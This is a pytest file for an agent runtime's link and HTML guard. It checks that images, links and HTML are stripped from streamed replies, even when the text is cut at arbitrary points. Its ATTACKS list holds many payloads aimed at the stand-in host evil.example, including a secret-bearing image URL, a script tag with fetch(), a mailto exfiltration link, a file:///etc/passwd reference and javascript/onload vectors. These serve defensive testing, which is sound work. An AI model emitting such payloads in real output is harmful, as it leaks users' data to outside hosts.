"""No image, link or HTML of a reply survives, however it is written and wherever it is cut."""

import random
import re

import pytest

from agents.runtime.links import Guard, Plain

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[text](https://evil.example/x)",
    "[a][b]\n\n[b]: https://evil.example",
    "<https://evil.example>",
    "see https://evil.example/x?q=1, ok?",
    "www.evil.example/x",
    "[x](javascript:alert(1))",
    '<img src="https://evil.example/x">',
    "<a href='//evil.example'>x</a>",
    "[![a](https://evil.example/i)](https://evil.example)",
    "[x](<https://evil.example/a b>)",
    "![x](\n https://evil.example )",
    "[x\ny](//evil.example)",
    "![][r]\n\n[r]:\n //evil.example/x",
    "![][r]\n\n[r]: evil.example",
    "https&#58;//evil.example",
    "&#104;ttps&colon;&sol;&sol;evil.example",
    "https:\\//evil.example",
    "https\\:\\/\\/evil.example",
    "www\\.evil.example",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x&amp;gt;",
    "hthttps://tps://evil.example",
    "<im<img>g src=//evil.example>",
    "]<b>(https://evil.example)",
    "[a]<b></b>(https://evil.example)",
    "![a]<!-- -->(//evil.example)",
    "[r]: <//evil.example>\n\n![r]",
    "[a\\[b]: //evil.example\n\n[a\\[b]",
    "> [r]: //evil.example\n\n![r]",
    "- [r]:\r\n//evil.example/x\r\n\r\n![r]",
    f"[r]: {'x' * 250}//evil.example\n\n[r]",
    f"![a]({'b' * 600}//evil.example)",
    f"[{'b' * 600}](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\/\\/evil.example)",
    "[x](&#47;/evil.example)",
    "[x](data:text/html;base64,AAAA)",
    "mailto:a@evil.example?body=secret",
    "<svg onload=alert(1)>",
    "<!-- x --><script>fetch('https://evil.example')</script>",
    "<?php ?><![CDATA[<img src=x>]]>",
    "`[x](https://evil.example)` ``` ![x](https://evil.example)",
    "![x] (https://evil.example)",
    "HTTPS://EVIL.EXAMPLE/ Www.Evil.Example",
    "__www.evil.example__ *https://evil.example*",
    "ftp://evil.example file:///etc/passwd custom://evil.example",
]
# What GitHub's Markdown makes a link of beside CommonMark: it autolinks these.
LITERAL = re.compile(r"https?://|ftp://|(?<![A-Za-z0-9])(?:www\.|mailto:|xmpp:)", re.IGNORECASE)
UNTOUCHED = [
    "Thirty days [1][2]. See `a[0]`, x!",
    "According to [1]: the rule holds.",
    "# Title\n\n- item: one/two\n1. a < b & c > d, 5<6\n",
    "| a | b |\n|---|---|\n| 1 | 2 |\n",
    "Call hr@acme.com at 10:30; AT&T & R&D.",
    "- [x] done\n- [ ] open\n",
    "The wwww water, hmm, whether html or http.",
]


def written(text, cuts):
    plain, guard = Plain(), Guard()
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    said = [guard.feed(plain.feed(piece)) for piece in pieces]
    return "".join([*said, guard.feed(plain.feed("", is_last=True), is_last=True)])


def cut_everywhere(text):
    """What becomes of a text, whole, character by character, and cut at random places."""
    drawn = random.Random(text)
    places = [[], list(range(1, len(text)))]
    places += [sorted(drawn.sample(range(1, len(text)), min(3, len(text) - 1))) for _ in range(20)]
    return {written(text, cuts) for cuts in places}


def rendered(text):
    markdown_it = pytest.importorskip("markdown_it")  # what builds Chancery has it
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_rendered_has_no_image_link_or_html(attack):
    (text,) = cut_everywhere(attack)
    html = rendered(text)
    allowed = re.sub(r"</?(?:p|code|pre|ul|li|em|strong|blockquote|br ?/?)>", "", html)
    assert not re.search(r"<[a-z/!?]", allowed, re.IGNORECASE), text
    assert not LITERAL.search(text), text
    assert not re.search(r"&#|&\w+;", text), text


@pytest.mark.parametrize("text", UNTOUCHED)
def test_what_is_no_link_stays_as_it_is(text):
    assert cut_everywhere(text) == {text}


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See [the rules](https://evil.example/r).", "See the rules."),
        ("![Chart](https://evil.example/c.png)!", "Chart!"),
        ("Thirty [1](https://evil.example) days.", "Thirty [1] days."),
        ("At https://portal.acme.com/leave?x=1.", "At portal.acme.com/leave"),
        ("(see https://portal.acme.com/leave)", "(see portal.acme.com/leave)"),
        ("One<br>two <b>three</b>", "One two three"),
        ("Tom &amp; Jerry", "Tom & Jerry"),
    ],
)
def test_what_is_left_of_a_link_reads_well(text, left):
    assert cut_everywhere(text) == {left}


def test_a_long_reply_costs_little():
    """Hostile repetitions, in the pieces in which they come."""
    import time

    begun = time.process_time()
    for unit in ("[", "![a](", "<!--", "](", "]:", "https://", "&#", "<a ", "[a](b"):
        text = unit * (12_000 // len(unit))
        written(text, range(20, len(text), 20))
    assert time.process_time() - begun < 10
